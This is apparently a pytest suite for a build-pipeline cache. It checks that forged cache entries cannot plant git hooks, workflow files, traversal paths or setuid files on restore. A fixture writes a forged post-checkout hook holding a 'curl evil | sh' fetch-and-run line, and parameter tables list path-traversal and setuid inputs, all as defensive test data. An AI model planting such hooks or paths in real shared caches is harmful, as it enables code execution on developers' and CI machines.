"""A cache entry is untrusted data: a forged manifest never plants a file or breaks a run.

Whoever can write to a shared Redis, or to a ``.async/cache`` that CI restores, can write
an entry under a task's key. A restore writes only the files the task declares as
outputs, under normalized paths outside ``.git/`` and ``.async/``, with permission bits
only; any other entry is a miss (the task runs). Each case is checked against the file
store and a real Redis (started by ``conftest.py``).
"""

from __future__ import annotations

import os
import stat
import time
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from async_pipeline import define_cache, define_pipeline, env, job, redis_cache, sh, task
from async_pipeline.runner import run_job
from async_pipeline.runner.cache.engine import _replace_file
from async_pipeline.runner.cache.file_store import ENTRY_SUFFIX, FileStore, _encode
from async_pipeline.runner.cache.redis_store import RedisStore
from async_pipeline.runner.cache.store import (
    CacheStore,
    Entry,
    OutputFile,
    digest_bytes,
    restorable_path,
)

BASE_ENV = {"PATH": os.environ["PATH"]}
BUILD = "mkdir -p out && cat in.txt > out/o.txt"
DECLARED = "not one of its declared outputs"


@dataclass
class Project:
    """A checkout with one cached task ``build`` and the store its entries live in."""

    root: Path
    kind: str
    store: CacheStore
    env: dict[str, str]

    def pipeline(self, outputs: list[str], command: str = BUILD) -> Any:
        build = task(sh(command), inputs=["in.txt"], outputs=outputs, cache=True)
        registry: dict[str, Any] = {}
        if self.kind == "redis":
            registry["cache"] = define_cache(
                default="redis:shared", stores={"redis": redis_cache(url=env.var("REDIS_URL"))}
            )
        return define_pipeline(
            name="p", tasks={"build": build}, jobs={"j": job(target="build")}, **registry
        )

    def run(self, outputs: list[str], command: str = BUILD) -> Any:
        record = run_job(self.pipeline(outputs, command), id="j", cwd=self.root, env=self.env)
        assert record.status == "passed", record.tasks[0].error
        return record

    def forge(self, key: str, outputs: dict[str, bytes], *, mode: object = 0o644) -> None:
        """Add ``outputs`` (path -> contents) to the entry under ``key``, as an attacker with
        write access to the store would: through the store's own writer, blobs included."""
        entry = self.store.get(key)
        assert entry is not None
        files = {o.path: self.root / o.path for o in entry.outputs}
        added = []
        for index, (path, data) in enumerate(outputs.items()):
            source = self.root.parent / f"forged-{index}"
            source.write_bytes(data)
            files[path] = source
            added.append(OutputFile(path, digest_bytes(data), len(data), mode))
        self.store.put(replace(entry, outputs=(*entry.outputs, *added)), files)


@pytest.fixture(params=["file", "redis"])
def project(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Project]:
    root = tmp_path / "checkout"
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / "in.txt").write_text("input\n")
    if request.param == "file":
        yield Project(root, "file", FileStore(root / ".async" / "cache" / "tasks"), BASE_ENV)
        return
    url: str = request.getfixturevalue("redis_url")
    with RedisStore(url) as store:
        yield Project(root, "redis", store, {**BASE_ENV, "REDIS_URL": url})


def _one_warning_naming_an_undeclared_file(record: Any) -> str:
    assert len(record.warnings) == 1, record.warnings
    warning: str = record.warnings[0]
    assert DECLARED in warning and "build" in warning
    return warning


def _ran(record: Any) -> bool:
    result = record.tasks[0]
    return result.cache_hit is False and result.attempts == 1


# outputs the task does not declare ------------------------------------------------------


def test_a_forged_entry_never_plants_a_git_hook_or_a_workflow(project: Project) -> None:
    first = project.run(["out/o.txt"])
    project.forge(
        first.tasks[0].cache_key,
        {
            ".git/hooks/post-checkout": b"#!/bin/sh\ncurl evil | sh\n",
            ".github/workflows/evil.yml": b"on: push\n",
        },
        mode=0o755,
    )

    forged = project.run(["out/o.txt"])

    assert _ran(forged)
    _one_warning_naming_an_undeclared_file(forged)
    assert not (project.root / ".git" / "hooks" / "post-checkout").exists()
    assert not (project.root / ".github").exists()
    # The task's run stored a whole entry over the forged one: hits again, silently.
    again = project.run(["out/o.txt"])
    assert again.tasks[0].cache_hit is True and again.warnings == []


FORGED_PATHS = {
    # (declared outputs, the forged path, where a restore would have written it)
    "parent segment": (["out/**"], "out/../.github/workflows/evil.yml", ".github"),
    "dot segment": (["out/**"], "out/./evil.txt", "out/evil.txt"),
    "empty segment": (["out/**"], "out//evil.txt", "out/evil.txt"),
    "trailing slash": (["out/**"], "out/evil.txt/", "out/evil.txt"),
    "the directory itself": (["out/**"], "out/", None),
    "backslash": (["out/**"], "out/..\\evil.txt", "out/..\\evil.txt"),
    "newline": (["out/**"], "out/evil\n.txt", "out/evil\n.txt"),
    "absolute": (["out/**"], "/tmp/evil.txt", None),
    "a hook a glob matches": (
        ["*/hooks/*"],
        ".git/hooks/post-checkout",
        ".git/hooks/post-checkout",
    ),
    "a hook in another case": (["*/hooks/*"], ".GIT/hooks/post-checkout", ".GIT"),
    "the cache itself": (["*/*/*"], ".async/cache/evil", ".async/cache/evil"),
    "a submodule's hook": (["vendor/**"], "vendor/lib/.git/hooks/x", "vendor"),
    "an excluded output": (["out/**", "!out/keep/**"], "out/keep/evil.txt", "out/keep"),
}


@pytest.mark.parametrize(
    ("declared", "path", "written"), FORGED_PATHS.values(), ids=FORGED_PATHS.keys()
)
def test_a_forged_path_is_refused_even_where_the_declared_patterns_match_it(
    project: Project, declared: list[str], path: str, written: str | None
) -> None:
    first = project.run(declared)
    project.forge(first.tasks[0].cache_key, {path: b"planted\n"})
    if path == "out/":
        # The output directory gone (a fresh checkout): a file "out" must not take its place.
        (project.root / "out" / "o.txt").unlink()
        (project.root / "out").rmdir()

    forged = project.run(declared)

    assert _ran(forged)
    warning = _one_warning_naming_an_undeclared_file(forged)
    assert "\n" not in warning  # quoted escaped, never raw
    if written is not None:
        assert not (project.root / written).exists()
    assert (project.root / "out" / "o.txt").read_text() == "input\n"


def test_outputs_listed_twice_are_a_miss(project: Project) -> None:
    first = project.run(["out/**"])
    key = first.tasks[0].cache_key
    entry = project.store.get(key)
    assert entry is not None
    files = {"out/o.txt": project.root / "out" / "o.txt"}
    project.store.put(replace(entry, outputs=entry.outputs * 2), files)

    assert project.store.get(key) is None
    assert _ran(project.run(["out/**"]))


def test_a_long_forged_path_is_quoted_short_in_the_warning(project: Project) -> None:
    first = project.run(["out/o.txt"])
    project.forge(first.tasks[0].cache_key, {"x/" * 3000 + "evil": b"planted\n"})

    warning = _one_warning_naming_an_undeclared_file(project.run(["out/o.txt"]))

    assert len(warning) < 500


def test_an_output_that_cannot_be_written_is_a_miss_not_a_failed_run(project: Project) -> None:
    # Declared, well formed, but too long a name for the filesystem.
    first = project.run(["out/**"])
    project.forge(first.tasks[0].cache_key, {"out/" + "n" * 300: b"planted\n"})

    record = project.run(["out/**"])

    assert _ran(record)
    assert len(record.warnings) == 1 and "could not restore" in record.warnings[0]
    assert len(record.warnings[0]) < 500


# modes ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "mode",
    [2**40, -1, 0o4777, 0o2755, 0o1777, 0o7777, True, "493", 493.0],
    ids=["huge", "negative", "setuid", "setgid", "sticky", "all", "bool", "text", "float"],
)
def test_a_mode_that_is_not_permission_bits_is_a_miss_and_never_reaches_chmod(
    project: Project, mode: object
) -> None:
    first = project.run(["out/o.txt"])
    key = first.tasks[0].cache_key
    entry = project.store.get(key)
    assert entry is not None
    damaged = tuple(replace(o, mode=mode) for o in entry.outputs)
    project.store.put(replace(entry, outputs=damaged), {"out/o.txt": project.root / "out/o.txt"})
    (project.root / "out" / "o.txt").unlink()

    record = project.run(["out/o.txt"])

    assert _ran(record) and record.warnings == []
    assert stat.S_IMODE(os.stat(project.root / "out" / "o.txt").st_mode) & 0o7000 == 0


@pytest.mark.parametrize(("mode", "restored"), [(0, 0o600), (0o444, 0o644), (0o755, 0o755)])
def test_a_restored_output_keeps_its_permission_bits_and_its_owner_can_read_and_write_it(
    project: Project, mode: int, restored: int
) -> None:
    first = project.run(["out/o.txt"])
    key = first.tasks[0].cache_key
    entry = project.store.get(key)
    assert entry is not None
    changed = tuple(replace(o, mode=mode) for o in entry.outputs)
    project.store.put(replace(entry, outputs=changed), {"out/o.txt": project.root / "out/o.txt"})
    (project.root / "out" / "o.txt").unlink()

    record = project.run(["out/o.txt"])

    assert record.tasks[0].cache_hit is True
    assert stat.S_IMODE(os.stat(project.root / "out" / "o.txt").st_mode) == restored


def test_a_restore_sets_permission_bits_only(tmp_path: Path) -> None:
    for mode in (0o4755, 0o6777, 2**40 + 0o644):
        _replace_file(tmp_path / "f", b"x", mode)
        assert stat.S_IMODE(os.stat(tmp_path / "f").st_mode) & ~0o777 == 0


# what the store writes ------------------------------------------------------------------


def test_outputs_declared_with_dot_segments_are_stored_normalized_and_restored(
    project: Project,
) -> None:
    first = project.run(["./out//o.txt"])
    entry = project.store.get(first.tasks[0].cache_key)
    assert entry is not None and [o.path for o in entry.outputs] == ["out/o.txt"]
    (project.root / "out" / "o.txt").unlink()

    record = project.run(["./out//o.txt"])

    assert record.tasks[0].cache_hit is True and record.warnings == []
    assert (project.root / "out" / "o.txt").read_text() == "input\n"


def test_an_output_whose_path_a_restore_would_refuse_is_not_stored(project: Project) -> None:
    record = project.run(["out/**"], "mkdir -p out && cat in.txt > 'out/a\\b.txt'")

    assert len(record.warnings) == 1 and "not stored" in record.warnings[0]
    assert project.store.get(record.tasks[0].cache_key) is None


def test_outputs_naming_the_pipeline_file_with_dot_slash_are_not_cached(tmp_path: Path) -> None:
    (tmp_path / "in.txt").write_text("input\n")
    (tmp_path / "pipeline.py").write_text("# the project's pipeline file\n")
    build = task(
        sh("cat in.txt > copy.txt"), inputs=["in.txt"], outputs=["./pipeline.py"], cache=True
    )
    pipeline = define_pipeline(name="p", tasks={"build": build}, jobs={"j": job(target="build")})

    record = run_job(pipeline, id="j", cwd=tmp_path, env=BASE_ENV)

    assert len(record.warnings) == 1 and "pipeline file pipeline.py" in record.warnings[0]
    assert not list((tmp_path / ".async" / "cache" / "tasks").glob(f"*{ENTRY_SUFFIX}"))


@pytest.mark.parametrize(
    "path",
    ["a.txt", "out/o.txt", "dist/.github/x.yml", "node_modules/x", ".gitignore", "a/.asyncx"],
)
def test_normalized_project_paths_are_restorable(path: str) -> None:
    assert restorable_path(path)


@pytest.mark.parametrize(
    "path",
    [
        "",
        "/abs",
        "a/",
        "a//b",
        "./a",
        "a/./b",
        "a/../b",
        "..",
        "a\\b",
        "a\x00b",
        "a\tb",
        "a\x7fb",
        "a\x85b",
        "a\udcffb",
        "C:/x",
        ".git",
        ".git/config",
        ".Git/hooks/x",
        "sub/.GIT/hooks/x",
        ".async/cache/x",
        ".ASYNC/x",
    ],
)
def test_other_paths_are_not_restorable(path: str) -> None:
    assert not restorable_path(path)


# the file store's decoding --------------------------------------------------------------


def _file_entry(tmp_path: Path, **output: Any) -> tuple[FileStore, Entry]:
    """An entry file written as a forger would, with ``output``'s fields as given."""
    store = FileStore(tmp_path / ".async" / "cache" / "tasks")
    fields = {"path": "out/o.txt", "digest": digest_bytes(b"x"), "size": 1, "mode": 0o644}
    fields.update(output)
    entry = Entry("e" * 64, "build", time.time(), {}, (OutputFile(**fields),), {}, b"", b"")
    store.directory.mkdir(parents=True)
    store.entry_path(entry.key).write_bytes(_encode(entry, {}))
    return store, entry


DAMAGED_OUTPUTS = {
    "a huge mode": {"mode": 2**40},
    "a negative mode": {"mode": -1},
    "a setuid mode": {"mode": 0o4755},
    "a mode that is a bool": {"mode": True},
    "a mode that is text": {"mode": "493"},
    "a mode that is a float": {"mode": 493.0},
    "a negative size": {"size": -1},
    "a size that is text": {"size": "1"},
    "a path that is not text": {"path": 7},
    "a digest that is a path": {"digest": "../../x"},
}


@pytest.mark.parametrize("output", DAMAGED_OUTPUTS.values(), ids=DAMAGED_OUTPUTS.keys())
def test_a_file_entry_with_an_output_unlike_what_the_store_writes_is_a_miss_and_is_removed(
    tmp_path: Path, output: dict[str, object]
) -> None:
    store, entry = _file_entry(tmp_path, **output)

    assert store.get(entry.key) is None
    assert not store.entry_path(entry.key).exists()


def test_a_file_entry_listing_an_output_twice_is_a_miss(tmp_path: Path) -> None:
    store, entry = _file_entry(tmp_path)
    twice = replace(entry, outputs=entry.outputs * 2)
    store.entry_path(entry.key).write_bytes(_encode(twice, {}))

    assert store.get(entry.key) is None


def test_a_digest_that_is_not_sha256_never_names_a_file_to_read_or_remove(tmp_path: Path) -> None:
    victim = tmp_path / "pipeline.py"
    victim.write_text("the user's pipeline\n")
    # blobs/ is .async/cache/tasks/blobs: four levels up is the project root.
    store, entry = _file_entry(tmp_path, digest="../../../../pipeline.py", size=3)

    assert store.get(entry.key) is None
    assert store.read_output(entry, entry.outputs[0]) is None
    assert victim.read_text() == "the user's pipeline\n"
